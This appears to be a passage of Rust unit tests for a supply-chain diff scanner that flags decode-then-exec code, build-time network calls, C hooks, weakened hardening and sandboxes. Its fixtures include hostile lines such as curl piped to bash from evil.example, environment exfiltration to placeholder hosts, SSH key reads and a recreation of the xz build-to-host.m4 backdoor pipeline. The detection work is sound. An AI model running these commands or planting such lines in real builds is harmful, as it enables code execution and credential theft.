                "CERT = '''\n-----BEGIN CERTIFICATE-----\n{pem}-----END CERTIFICATE-----\n'''\n"
            ),
        );
        assert!(
            hit(&h, HitKind::HighEntropyLiteral)
                .detail
                .starts_with("PEM ")
        );
    }

    #[test]
    fn escaped_bytes_payload() {
        let mut x = 99u64;
        let esc: String = (0..200)
            .map(|_| {
                x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
                format!("\\x{:02x}", (x >> 40) & 0xff)
            })
            .collect();
        let h = added("pkg/shell.py", &format!("SC = b\"{esc}\"\n"));
        assert!(
            hit(&h, HitKind::HighEntropyLiteral)
                .detail
                .contains("escaped bytes")
        );
        let low: String = (0..200).map(|i| format!("\\x0{}", i % 2)).collect();
        assert!(added("pkg/z.py", &format!("Z = b\"{low}\"\n")).is_empty());
    }

    // --- Decode then execute ----------------------------------------------------------------

    #[test]
    fn python_decode_exec_shapes() {
        let h = added(
            "pkg/__init__.py",
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
        );
        assert_eq!(hit(&h, HitKind::DecodeExec).detail, "b64decode → exec");
        let h = added(
            "setup.py",
            "__import__('builtins').exec(__import__('zlib').decompress(__import__('base64').b64decode(x)))\n",
        );
        assert!(has(&h, HitKind::DecodeExec));
        let h = added(
            "pkg/util.py",
            "code = codecs.decode(s, 'rot13')\nif code:\n    exec(code)\n",
        );
        assert_eq!(hit(&h, HitKind::DecodeExec).line, 3);
        let h = added("pkg/util.py", "obj = pickle.loads(zlib.decompress(blob))\n");
        assert_eq!(
            hit(&h, HitKind::DecodeExec).detail,
            "decompress → pickle.loads"
        );
        let h = added(
            "pkg/util.py",
            "f = types.FunctionType(marshal.loads(bytes.fromhex(h)), {})\n",
        );
        assert!(has(&h, HitKind::DecodeExec));
    }

    #[test]
    fn python_download_and_char_code_exec() {
        let h = added(
            "setup.py",
            "exec(requests.get('https://x.example/p').text)\n",
        );
        assert_eq!(
            hit(&h, HitKind::DecodeExec).detail,
            "download (requests.get) → exec"
        );
        let h = added(
            "pkg/m.py",
            "s = ''.join(map(chr, [101, 120, 101, 99]))\ngetattr(builtins, s)(code)\neval(s)\n",
        );
        assert!(
            hit(&h, HitKind::DecodeExec)
                .detail
                .starts_with("char codes → ")
        );
        // A download next to a process call is left to the build/import-time kinds.
        let h = added(
            "tools/fetch.py",
            "urlretrieve(u, '/tmp/x')\nsubprocess.run(['tar', 'xf', '/tmp/x'])\n",
        );
        assert!(h.is_empty());
    }

    #[test]
    fn environment_exfiltration() {
        let src = "env = dict(os.environ)\nrequests.get('https://x.example/hacked/' + str(env))\n";
        let h = added("ctx.py", src);
        assert_eq!(
            hit(&h, HitKind::CredentialAccess).detail,
            "environment variables sent over the network"
        );
        let quiet = "env = os.environ.copy()\nenv['PATH'] = p\nsubprocess.run(cmd, env=env)\n";
        assert!(added("tools/run.py", quiet).is_empty());
    }

    #[test]
    fn python_decode_without_exec_is_quiet() {
        let src = "import base64, zlib\n\
                   data = base64.b64decode(s)\n\
                   arr = np.frombuffer(zlib.decompress(data), dtype=np.uint8)\n\
                   model.eval()\n\
                   val = ast.literal_eval(text)\n\
                   x = np.fromstring(raw, sep=' ')\n";
        assert!(added("pkg/io.py", src).is_empty());
        // Far apart: not paired.
        let far = "d = base64.b64decode(s)\n\n\n\n\n\n\nexec(code)\n";
        assert!(!has(&added("pkg/io.py", far), HitKind::DecodeExec));
    }

    #[test]
    fn xz_build_to_host_m4() {
        let m4 = "  if test \"x$gl_am_configmake\" != \"x\"; then\n    gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n  else\n    gl_[$1]_config=''\n  fi\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt=\"eval \\$gl_[$1]_config\"])\n";
        let h = added("m4/build-to-host.m4", m4);
        let de: Vec<&ContentHit> = h.iter().filter(|x| x.kind == HitKind::DecodeExec).collect();
        assert_eq!(de.len(), 2, "{h:#?}");
        assert_eq!(de.first().map(|x| x.line), Some(2));
        assert!(
            de.iter()
                .any(|x| x.detail.contains("eval in a decoding pipeline"))
        );
        assert!(
            de.iter()
                .any(|x| x.detail.contains("eval output piped to $shell"))
        );
        assert!(has(&h, HitKind::BuildHookAdded));
    }

    #[test]
    fn shell_decode_and_download_exec() {
        let h = added("build-aux/run.sh", "echo aWQK | base64 -d | sh\n");
        assert_eq!(hit(&h, HitKind::DecodeExec).detail, "base64 -d piped to sh");
        let h = added(
            "setup.py",
            "os.system('curl -sSL https://evil.example/x | bash')\n",
        );
        assert!(
            hit(&h, HitKind::DecodeExec)
                .detail
                .starts_with("download (curl) piped to bash")
        );
        assert!(has(&h, HitKind::NetworkAtBuildOrImport));
        let h = added("configure.ac", "eval \"$(wget -qO- http://x.example/c)\"\n");
        assert!(has(&h, HitKind::DecodeExec));
        let h = added("tools/x.sh", "xxd -r -p payload.hex | bash\n");
        assert!(has(&h, HitKind::DecodeExec));
        let h = added(
            "build-aux/fetch.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')\n",
        );
        assert!(has(&h, HitKind::DecodeExec));
    }

    #[test]
    fn shell_lookalikes_are_quiet() {
        // Download piped to a shell in CI scripts and docs is the workflow rules' business.
        assert!(
            added(
                "tools/ci/install.sh",
                "curl -sSL https://get.example/x | bash\n"
            )
            .is_empty()
        );
        assert!(added("README.md", "curl -sSL https://get.example/x | bash\n").is_empty());
        let benign = "cat file | tr -d '\\n' | wc -c\n\
                      (eval \"$ac_cpp conftest.$ac_ext\") 2>&5 | $EGREP yes >/dev/null\n\
                      git log --oneline | head -n 5\n\
                      gzip -d < a.gz > a\n\
                      x=$(echo $y | sed 's/a/b/')\n";
        assert!(added("build-aux/x.sh", benign).is_empty());
    }

    // --- Dynamic execution ------------------------------------------------------------------

    #[test]
    fn dynamic_exec_positives() {
        let h = added("pkg/plugin.py", "def run(code):\n    exec(code, ns)\n");
        assert_eq!(hit(&h, HitKind::DynamicExec).detail, "exec(variable)");
        let h = added("pkg/plugin.py", "eval(f\"{mod}.{fn}\")\n");
        assert_eq!(hit(&h, HitKind::DynamicExec).detail, "eval(f-string)");
        let h = added("pkg/plugin.py", "exec(open(path).read())\n");
        assert_eq!(hit(&h, HitKind::DynamicExec).detail, "exec(call result)");
        let h = added("pkg/plugin.py", "m = importlib.import_module(name)\n");
        assert_eq!(
            hit(&h, HitKind::DynamicExec).detail,
            "import_module(variable)"
        );
        let h = added("pkg/plugin.py", "__import__('os').system('id')\n");
        assert_eq!(
            hit(&h, HitKind::DynamicExec).detail,
            "__import__('os') used inline"
        );
        let h = added("pkg/plugin.py", "f = getattr(builtins, 'ex' + 'ec')\n");
        assert_eq!(
            hit(&h, HitKind::DynamicExec).detail,
            "builtins looked up by name"
        );
        let h = added("pkg/tests/test_x.py", "exec(open(p).read())\n");
        assert!(has(&h, HitKind::DynamicExec));
    }

    #[test]
    fn dynamic_exec_lookalikes() {
        let src = "model.eval()\n\
                   v = ast.literal_eval(s)\n\
                   r = ne.evaluate('a + b')\n\
                   p = re.compile(pat)\n\
                   exec('x = 1')\n\
                   def eval(self, x):\n\
                   \x20   return self.evaluate(x)\n\
                   mod = importlib.import_module(f'numpy.{name}')\n\
                   sub = __import__('numpy.linalg')\n\
                   \"\"\"Never call exec(code) on\n\
                   untrusted eval(data).\"\"\"\n\
                   # exec(code) in a comment\n";
        assert!(
            added("pkg/core.py", src).is_empty(),
            "{:#?}",
            added("pkg/core.py", src)
        );
        let test = "assert_equal(eval(repr(a)), a)\nfunc = eval(intrin)\nm = importlib.import_module(name)\n";
        assert!(added("numpy/_core/tests/test_simd.py", test).is_empty());
    }

    // --- Build-time processes and network -----------------------------------------------------

    #[test]
    fn setup_py_processes_name_the_program() {
        let h = added(
            "setup.py",
            "import subprocess\nv = subprocess.run(['git', 'describe'], capture_output=True)\n",
        );
        let p = hit(&h, HitKind::BuildTimeProcess);
        assert_eq!((p.line, p.detail.as_str()), (2, "subprocess.run: git"));
        let h = added(
            "setup.py",
            "subprocess.check_call([sys.executable, '-m', 'pip', 'list'])\n",
        );
        assert_eq!(
            hit(&h, HitKind::BuildTimeProcess).detail,
            "subprocess.check_call: python"
        );
        let h = added("pkg/__init__.py", "os.system(cmd)\n");
        assert_eq!(
            hit(&h, HitKind::BuildTimeProcess).detail,
            "os.system: dynamic"
        );
        let h = added("setup.py", "subprocess.run(['curl', '-o', 'x', url])\n");
        assert_eq!(
            hit(&h, HitKind::NetworkAtBuildOrImport).detail,
            "subprocess.run: curl"
        );
    }

    #[test]
    fn network_at_import_and_build() {
        let h = added(
            "conftest.py",
            "data = urlopen('https://exfil.example.com/c?d=' + t).read()\n",
        );
        assert_eq!(
            hit(&h, HitKind::NetworkAtBuildOrImport).detail,
            "urlopen exfil.example.com"
        );
        let h = added(
            "pkg/__init__.py",
            "requests.post(URL, json=dict(os.environ))\n",
        );
        assert!(has(&h, HitKind::NetworkAtBuildOrImport));
        let h = added(
            "CMakeLists.txt",
            "file(DOWNLOAD https://x.example/a.tar.gz a.tar.gz)\n",
        );
        assert_eq!(
            hit(&h, HitKind::NetworkAtBuildOrImport).detail,
            "cmake file(DOWNLOAD)"
        );
        let h = added(
            "m4/fetch.m4",
            "  wget -q http://x.example/p -O conftest.p\n",
        );
        assert!(has(&h, HitKind::NetworkAtBuildOrImport));
    }

    #[test]
    fn process_calls_outside_build_code_are_quiet() {
        let src = "import subprocess\nsubprocess.run(['git', 'describe'])\nurlopen(url)\n";
        assert!(added("numpy/lib/_datasource.py", src).is_empty());
        assert!(
            added(
                "doc/conftest.py",
                "    def check_output(self, want, got, flags):\n"
            )
            .is_empty()
        );
        assert!(
            added(
                "setup.py",
                "import subprocess\nfrom urllib.request import urlopen\n"
            )
            .is_empty()
        );
    }

    #[test]
    fn pth_import_line() {
        let h = added("src/zzz_hook.pth", "/opt/lib\nimport os; os.system('id')\n");
        let s = hit(&h, HitKind::StartupHook);
        assert_eq!(s.line, 2);
        assert!(added("src/paths.pth", "/opt/lib\n../src\n").is_empty());
    }

    // --- C hooks ------------------------------------------------------------------------------

    #[test]
    fn c_hooks() {
        let h = added(
            "src/init.c",
            "static void __attribute__((constructor)) init(void) {}\n",
        );
        assert!(hit(&h, HitKind::CHook).detail.starts_with("constructor"));
        let h = added(
            "src/crc.c",
            "uint32_t lzma_crc32(...) __attribute__ ((ifunc (\"crc32_resolve\")));\n",
        );
        assert!(hit(&h, HitKind::CHook).detail.starts_with("ifunc"));
        let h = added(
            "src/x.c",
            "static void (*p)(void) __attribute__((section(\".init_array\"))) = f;\n",
        );
        assert!(hit(&h, HitKind::CHook).detail.contains("init section"));
        let h = added(
            "src/x.c",
            "real = dlsym(RTLD_NEXT, \"RSA_public_decrypt\");\n",
        );
        assert_eq!(
            hit(&h, HitKind::CHook).detail,
            "dlsym(RTLD_NEXT): symbol interposition"
        );
        let h = added("src/x.c", "setenv(\"LD_PRELOAD\", lib, 1);\n");
        assert!(has(&h, HitKind::CHook));
        let h = added(
            "numpy/_core/src/x.pyx",
            "cdef void* f = dlsym(handle, b\"cblas_dgemm\")\n",
        );
        assert_eq!(
            hit(&h, HitKind::CHook).detail,
            "dlsym: symbol looked up at run time"
        );
    }

    #[test]
    fn c_lookalikes() {
        let src = "static NPY_INLINE int f(void) __attribute__((unused));\n\
                   /* a constructor-like helper */\n\
                   // dlsym is not used here\n\
                   #include <dlfcn.h>\n\
                   Py_TYPE(self)->tp_init(self, args, kw);\n\
                   int constructor = 0;\n";
        assert!(added("numpy/_core/src/multiarray/ctors.c", src).is_empty());
    }

    // --- Feature probes -------------------------------------------------------------------------

    const LANDLOCK_OLD: &str = "project(xz C)\n\
        check_c_source_compiles(\"\n\
        \x20       #include <linux/landlock.h>\n\
        \x20       #include <sys/syscall.h>\n\
        \x20       #include <sys/prctl.h>\n\
        \n\
        \x20       void my_sandbox(void)\n\
        \x20       {\n\
        \x20           (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);\n\
        \x20       }\n\
        \x20       int main(void) { return 0; }\n\
        \x20   \"\n\
        \x20   HAVE_LINUX_LANDLOCK)\n\
        add_library(liblzma src/a.c)\n";

    #[test]
    fn xz_landlock_probe_broken_by_a_dot() {
        let new = LANDLOCK_OLD.replace("#include <sys/prctl.h>\n\n", "#include <sys/prctl.h>\n.\n");
        let h = change("CMakeLists.txt", LANDLOCK_OLD, &new);
        let p = hit(&h, HitKind::FeatureProbeChanged);
        assert_eq!(p.line, 6);
        assert!(
            p.detail
                .starts_with("check_c_source_compiles: probe source changed"),
            "{}",
            p.detail
        );
        assert!(p.detail.contains("stray '.' line"), "{}", p.detail);
    }

    #[test]
    fn change_outside_probe_is_quiet() {
        let new = LANDLOCK_OLD.replace(
            "add_library(liblzma src/a.c)",
            "add_library(liblzma src/a.c src/b.c)",
        );
        assert!(change("CMakeLists.txt", LANDLOCK_OLD, &new).is_empty());
        let old = "cc = meson.get_compiler('c')\nif cc.has_function('strtold_l')\n  cdata.set('HAVE_STRTOLD_L', 1)\nendif\nsrc = ['a.c']\n";
        let new = old.replace("src = ['a.c']", "src = ['a.c', 'b.c']");
        assert!(change("numpy/_core/meson.build", old, &new).is_empty());
    }

    #[test]
    fn meson_and_autotools_probe_bodies() {
        let old = "ok = cc.compiles('''\n  #include <immintrin.h>\n  int main(void) { return 0; }\n''', name: 'avx')\nx = 1\n";
        let new = old.replace(
            "int main(void) { return 0; }",
            "int main(void) { return 0; } x",
        );
        let h = change("meson.build", old, &new);
        assert!(
            hit(&h, HitKind::FeatureProbeChanged)
                .detail
                .starts_with("compiles: probe source changed")
        );
        let old = "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[\n#include <sys/capsicum.h>\n]], [[\n  cap_rights_t r;\n]])],\n  [have=yes], [have=no])\nAC_OUTPUT\n";
        let new = old.replace("  cap_rights_t r;\n", "  cap_rights_t r;;\n");
        let h = change("configure.ac", old, &new);
        let p = hit(&h, HitKind::FeatureProbeChanged);
        assert!(p.detail.starts_with("AC_COMPILE_IFELSE"), "{}", p.detail);
        // Probe deleted.
        let old = "a = 1\nif cc.has_header('landlock.h')\n  x = 1\nendif\n";
        let new = "a = 1\n  x = 1\nendif\n";
        let h = change("meson.build", old, new);
        let p = hit(&h, HitKind::FeatureProbeChanged);
        assert!(p.removed && p.detail.contains("probe removed"), "{p:?}");
    }

    // --- Hardening and sandboxing -----------------------------------------------------------------

    #[test]
    fn hardening_flags_netted() {
        let h = change(
            "meson.build",
            "args = ['-O2']\n",
            "args = ['-O2', '-fno-stack-protector']\n",
        );
        assert_eq!(
            hit(&h, HitKind::HardeningFlagChanged).detail,
            "weakened: -fno-stack-protector added"
        );
        let h = change(
            "Makefile.am",
            "AM_CFLAGS = -O2 -D_FORTIFY_SOURCE=2\nx\n",
            "AM_CFLAGS = -O2\nx\n",
        );
        let f = hit(&h, HitKind::HardeningFlagChanged);
        assert!(f.removed);
        assert_eq!(f.detail, "weakened: -D_FORTIFY_SOURCE=2 removed");
        let h = change(
            "CMakeLists.txt",
            "set(LDFLAGS \"-Wl,-z,relro,-z,now\")\n",
            "set(LDFLAGS \"\")\n",
        );
        assert_eq!(
            h.iter()
                .filter(|x| x.kind == HitKind::HardeningFlagChanged)
                .count(),
            2
        );
        let h = change(
            "setup.py",
            "x = 1\n",
            "x = 1\nextra_compile_args=['-fstack-protector-strong']\n",
        );
        assert_eq!(
            hit(&h, HitKind::HardeningFlagChanged).detail,
            "strengthened: -fstack-protector-strong added"
        );
        // Moved or re-wrapped flags are not changes.
        let old = "flags = ['-O2',\n  '-fstack-protector-strong']\n";
        let new = "flags = ['-O2', '-fstack-protector-strong']\n";
        assert!(change("meson.build", old, new).is_empty());
        let h = change("src/x.c", "int a;\n", "#undef _FORTIFY_SOURCE\nint a;\n");
        assert!(
            hit(&h, HitKind::HardeningFlagChanged)
                .detail
                .starts_with("weakened")
        );
        assert!(added("docs/build.md", "use -fno-stack-protector\n").is_empty());
    }

    #[test]
    fn sandbox_changes() {
        let old = "#ifdef HAVE_LINUX_LANDLOCK\n  enable_landlock();\n#endif\nint x;\n";
        let h = change("src/xz/sandbox.c", old, "int x;\n");
        assert!(
            h.iter()
                .all(|x| x.kind == HitKind::SandboxChanged && x.removed)
        );
        assert_eq!(hit(&h, HitKind::SandboxChanged).detail, "landlock removed");
        let h = change(
            "configure.ac",
            "x\n",
            "x\nAC_ARG_ENABLE([sandbox], [--enable-sandbox=no])\n",
        );
        assert!(has(&h, HitKind::SandboxChanged));
        assert!(added("pkg/m.py", "# run inside a sandboxed interpreter\n").is_empty());
    }

    // --- Build hooks -----------------------------------------------------------------------------------

    #[test]
    fn pyproject_hooks() {
        let old = "[build-system]\nrequires = [\"mesonpy\"]\nbuild-backend = \"mesonpy\"\n\n[project]\nname = \"x\"\n";
        let new = old.replace(
            "build-backend = \"mesonpy\"",
            "build-backend = \"backend\"\nbackend-path = [\"_build\"]",
        );
        let h = change("pyproject.toml", old, &new);
        let d: Vec<&str> = h.iter().map(|x| x.detail.as_str()).collect();
        assert!(d.contains(&"non-standard build-backend 'backend'"), "{d:?}");
        assert!(d.contains(&"in-tree build backend (backend-path)"), "{d:?}");
        let h = change(
            "pyproject.toml",
            old,
            &format!("{old}\n[tool.hatch.build.hooks.custom]\npath = \"hooks.py\"\n"),
        );
        assert!(h.iter().any(|x| x.detail == "hatch build hook 'custom'"));
        let h = change(
            "pyproject.toml",
            old,
            &format!("{old}\n[tool.scikit-build]\ncmake.args = [\"-DX=1\"]\n"),
        );
        assert!(has(&h, HitKind::BuildHookAdded));
        // Standard backends and ordinary metadata are quiet.
        let plain = old.replace("name = \"x\"", "name = \"x\"\nversion = \"2.0\"");
        assert!(change("pyproject.toml", old, &plain).is_empty());
    }

    #[test]
    fn setup_py_cmdclass_and_meson_run_command() {
        let src = "from setuptools.command.install import install\n\
                   class PostInstall(install):\n\
                   \x20   def run(self):\n\
                   \x20       install.run(self)\n\
                   setup(name='x', cmdclass={'install': PostInstall})\n";
        let h = added("setup.py", src);
        let d: Vec<&str> = h
            .iter()
            .filter(|x| x.kind == HitKind::BuildHookAdded)
            .map(|x| x.detail.as_str())
            .collect();
        assert_eq!(
            d,
            vec![
                "setup command override PostInstall(install) [install time]",
                "setup cmdclass (weak)"
            ]
        );
        let h = added(
            "setup.py",
            "class BuildExt(build_ext.build_ext):\n    pass\n",
        );
        assert!(
            hit(&h, HitKind::BuildHookAdded)
                .detail
                .ends_with("[build step]")
        );
        let h = added(
            "meson.build",
            "r = run_command(py, ['-c', 'import numpy'], check: true)\n",
        );
        assert_eq!(
            hit(&h, HitKind::BuildHookAdded).detail,
            "meson run_command(py) (weak)"
        );
        let h = added(
            "meson.build",
            "v = run_command('git', 'describe', check: false)\n",
        );
        assert_eq!(
            hit(&h, HitKind::BuildHookAdded).detail,
            "meson run_command(git)"
        );
        let h = added("CMakeLists.txt", "execute_process(COMMAND sh -c \"id\")\n");
        assert!(
            hit(&h, HitKind::BuildHookAdded)
                .detail
                .contains("execute_process(sh)")
        );
        let h = added("m4/x.m4", "m4_esyscmd([curl -s http://x | sh])\n");
        assert!(has(&h, HitKind::BuildHookAdded) && has(&h, HitKind::DecodeExec));
    }

    // --- Ignore and attribute rules ------------------------------------------------------------------------

    #[test]
    fn gitignore_hiding_build_inputs() {
        let h = change(
            ".gitignore",
            "build/\n",
            "build/\nbuild-to-host.m4\nm4/*.m4\n!configure\n",
        );
        let d: Vec<&str> = h.iter().map(|x| x.detail.as_str()).collect();
        assert_eq!(d.len(), 3, "{d:?}");
        assert!(d.iter().all(|x| x.starts_with("strong")), "{d:?}");
        assert!(d.iter().any(|x| x.contains("negation")));
        let h = added("m4/.gitignore", "*\n");
        assert!(has(&h, HitKind::IgnoreHidesBuildInput));
        let h = added(".gitignore", "numpy/**/*.c\n");
        assert!(
            hit(&h, HitKind::IgnoreHidesBuildInput)
                .detail
                .starts_with("weak")
        );
        let routine = "build/\ndist/\n*.egg-info\n__pycache__/\n*.pyc\n*.o\n.venv\n# comment\n\n.mypy_cache/\n";
        assert!(added(".gitignore", routine).is_empty());
    }

    #[test]
    fn gitattributes_rules() {
        let h = added(
            ".gitattributes",
            "tests/ export-ignore\n*.m4 binary\nsrc/*.c linguist-generated\n",
        );
        assert_eq!(
            h.iter().filter(|x| x.kind == HitKind::ExportIgnore).count(),
            3
        );
        let numpy = "* text=auto eol=lf\n*.py text diff=python\n*.c text diff=c\n*.png binary\n*.c.src text linguist-language=C\n";
        assert!(added(".gitattributes", numpy).is_empty());
    }

    // --- Security policy ----------------------------------------------------------------------------------

    const POLICY: &str = "# Security Policy\n\n## Reporting\n\nPlease report vulnerabilities to security@example.org.\nWe answer within 48 hours.\n\n## Supported versions\n\n| Version | Supported |\n| 5.x | :white_check_mark: |\n| 4.x | :x: |\n";

    #[test]
    fn security_contact_replaced() {
        let new = POLICY.replace("security@example.org", "maint@personal.example");
        let h = change("SECURITY.md", POLICY, &new);
        assert_eq!(
            hit(&h, HitKind::SecurityContactChanged).detail,
            "security@example.org → maint@personal.example"
        );
    }

    #[test]
    fn security_policy_trimmed() {
        let new = "# Security Policy\n\nOpen an issue.\n";
        let h = change("SECURITY.md", POLICY, new);
        assert!(has(&h, HitKind::SecurityPolicyWeakened));
        assert!(h.iter().all(|x| x.kind != HitKind::SecurityContactChanged));
        let typo = POLICY.replace("within 48 hours", "within two days");
        assert!(change("SECURITY.md", POLICY, &typo).is_empty());
    }

    // --- Tests disabled, endpoints, credentials ----------------------------------------------------------------

    #[test]
    fn tests_disabled() {
        let h = added(
            ".github/workflows/ci.yml",
            "    - run: pytest\n      continue-on-error: true\n",
        );
        assert!(has(&h, HitKind::TestDisabled));
        let h = added("tools/ci/test.sh", "python -m pytest numpy || true\n");
        assert_eq!(
            hit(&h, HitKind::TestDisabled).detail,
            "pytest failure ignored"
        );
        let h = added(
            "pkg/tests/test_lzma.py",
            "import pytest\npytestmark = pytest.mark.skip(reason='flaky')\n",
        );
        assert!(has(&h, HitKind::TestDisabled));
        let quiet = "import pytest\npytestmark = pytest.mark.skipif(IS_WASM, reason='no threads')\n\
                     def test_x():\n    pytest.skip('needs network')\n";
        assert!(added("pkg/tests/test_io.py", quiet).is_empty());
        assert!(added("tools/ci/x.sh", "grep -q foo file || true\n").is_empty());
    }

    #[test]
    fn endpoints_and_credentials() {
        let h = added(
            "setup.py",
            "URL = 'https://discord.com/api/webhooks/123/abc'\n",
        );
        assert_eq!(
            hit(&h, HitKind::SuspiciousEndpoint).detail,
            "Discord webhook"
        );
        let h = added("pkg/__init__.py", "u = 'http://45.33.12.7:8080/x'\n");
        assert!(
            hit(&h, HitKind::SuspiciousEndpoint)
                .detail
                .contains("45.33.12.7")
        );
        let local = "a = 'http://127.0.0.1:8000/'\nb = 'http://192.168.1.10/'\nc = 'https://numpy.org/doc'\n";
        assert!(added("pkg/m.py", local).is_empty());
        assert!(added("README.md", "see https://discord.com/api/webhooks/1/x\n").is_empty());
        let h = added(
            "setup.py",
            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        );
        assert_eq!(hit(&h, HitKind::CredentialAccess).detail, "SSH private key");
        let doc = "def safe_eval(s):\n    \"\"\"\n    >>> safe_eval('open(\"/home/user/.ssh/id_dsa\").read()')\n    \"\"\"\n";
        assert!(added("numpy/lib/utils.py", doc).is_empty());
    }

    // --- Moves, caps and bounds ---------------------------------------------------------------------------------

    #[test]
    fn moved_lines_are_not_reported() {
        let old = "def f(code):\n    exec(code)\n";
        let new = "def f(code):\n    if code:\n        exec(code)\n";
        assert!(change("pkg/m.py", old, new).is_empty());
    }

    #[test]
    fn hits_are_capped_keeping_every_kind() {
        let mut src = String::from("exec(base64.b64decode(x))\n");
        for i in 0..40 {
            src.push_str(&format!("eval(v{i})\n"));
        }
        src.push_str("__import__('os').system('x')\n");
        let h = added("pkg/m.py", &src);
        assert_eq!(h.len(), MAX_HITS_PER_FILE);
        assert!(has(&h, HitKind::DecodeExec) && has(&h, HitKind::DynamicExec));
        assert!(
            h.windows(2)
                .all(|w| w.first().map(|a| a.line) <= w.get(1).map(|b| b.line))
        );
    }

    #[test]
    fn hostile_inputs_are_bounded() {
        // One enormous line: examined on a prefix, excerpt stays short.
        let mut big = "exec(code) ".repeat(20_000);
        big.push('\u{202E}');
        let h = added("pkg/m.py", &big);
        assert!(
            h.iter()
                .all(|x| x.excerpt.chars().count() <= MAX_EXCERPT_CHARS)
        );
        assert!(has(&h, HitKind::DynamicExec));
        assert!(!has(&h, HitKind::Bidi), "beyond MAX_LINE_BYTES");
        // Nonsense hunks: overlapping, out of range, zero and maximal numbers.
        let hunks = [
            Hunk {
                old_start: 0,
                old_len: 0,
                new_start: 0,
                new_len: u32::MAX,
            },
            Hunk {
                old_start: u32::MAX,
                old_len: u32::MAX,
                new_start: 1,
                new_len: 3,
            },
            Hunk {
                old_start: 2,
                old_len: 1,
                new_start: 2,
                new_len: 1,
            },
        ];
        let h = scan_change(
            "m4/x.m4",
            classify("m4/x.m4"),
            b"a\nb\n",
            b"eval $x | $y -d\nb\nc\n",
            &hunks,
        );
        assert!(has(&h, HitKind::DecodeExec));
        // Unbalanced probe: bounded block, no panic.
        let probe = format!("check_c_source_compiles(\"{}\n", "(\n".repeat(10_000));
        let _ = added("CMakeLists.txt", &probe);
        // Invalid UTF-8 and control characters are rendered visibly.
        let h = scan_change(
            "pkg/m.py",
            classify("pkg/m.py"),
            b"",
            b"exec(c)\x1b[31m \xff\xfe\n",
            &[Hunk {
                old_start: 0,
                old_len: 0,
                new_start: 1,
                new_len: 1,
            }],
        );
        let e = &hit(&h, HitKind::DynamicExec).excerpt;
        assert!(e.contains("<U+001B>") && e.contains('\u{FFFD}'), "{e}");
    }

    #[test]
    fn hostile_files_scan_in_linear_time() {
        // Many flags per line on many lines, changed on both sides: netting stays linear.
        let line = "-fstack-protector -D_FORTIFY_SOURCE=2 -z relro -z now ".repeat(8);
        let old: String = (0..20_000).map(|i| format!("{line}{i}\n")).collect();
        let new: String = (0..20_000).map(|i| format!("{line}x{i}\n")).collect();
        let start = std::time::Instant::now();
        let h = change("meson.build", &old, &new);
        assert!(h.len() <= MAX_HITS_PER_FILE);
        // A huge pyproject section header repeated for every added line.
        let toml = format!("[{}]\n{}", "a".repeat(60_000), "k = 1\n".repeat(50_000));
        let _ = added("pyproject.toml", &toml);
        // Every line a probe start.
        let probes = "check_c_source_compiles(\"(\" X)\n".repeat(50_000);
        let _ = added("CMakeLists.txt", &probes);
        // Many attribute and exec occurrences on one line.
        let _ = added("src/x.c", &"__attribute__((".repeat(5_000));
        let _ = added("pkg/m.py", &"exec('')".repeat(8_000));
        assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
    }

    #[test]
    fn deleted_file_reports_removed_side_only() {
        let h = change(
            "src/sandbox.c",
            "landlock_create_ruleset(&attr, sizeof attr, 0);\n",
            "",
        );
        let s = hit(&h, HitKind::SandboxChanged);
        assert!(s.removed && s.line == 1);
    }
}
